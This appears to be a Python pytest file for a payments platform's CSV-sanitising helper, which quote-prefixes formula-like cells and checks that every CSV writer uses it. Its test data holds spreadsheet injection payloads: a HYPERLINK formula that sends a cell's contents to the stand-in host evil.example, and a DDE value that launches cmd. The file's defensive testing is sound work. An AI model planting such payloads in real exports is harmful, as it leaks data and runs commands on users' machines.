"""CSV cells a spreadsheet would run as formulas are neutralised; plain numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from jivapay.domain.csv_safe import safe_cell, safe_row


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "-cmd",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "+12.50",  # a sign a number does not need: not a plain number
        "-1e3",
        "-12.50\n=1+1",
        "-١٢",  # digits of another script are not plain digits
    ],
)
def test_formula_like_text_is_prefixed_with_a_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "-5", "12.50", "0", "-0.000001", "", "Shop", "a=b", "2024-05-01"])
def test_plain_numbers_and_ordinary_text_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [None, 7, -7, Decimal("-1.50")])
def test_values_that_are_not_text_pass_through(value: object) -> None:
    assert safe_cell(value) is value


def test_a_written_row_opens_as_text_in_a_spreadsheet() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(["=1+1", "-12.50", 3, None, "@me"]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "-12.50", "3", "", "'@me"]


def test_every_csv_writer_of_the_platform_writes_through_the_helper() -> None:
    from pathlib import Path

    src = Path(__file__).resolve().parents[2] / "src" / "jivapay"
    writers = [p for p in src.rglob("*.py") if "csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text()]
    assert writers, "no CSV writer found: the scan is broken"
    unsafe = [str(p.relative_to(src)) for p in writers if "safe_row(" not in p.read_text()]
    assert not unsafe, f"CSV written without jivapay.domain.csv_safe: {unsafe}"
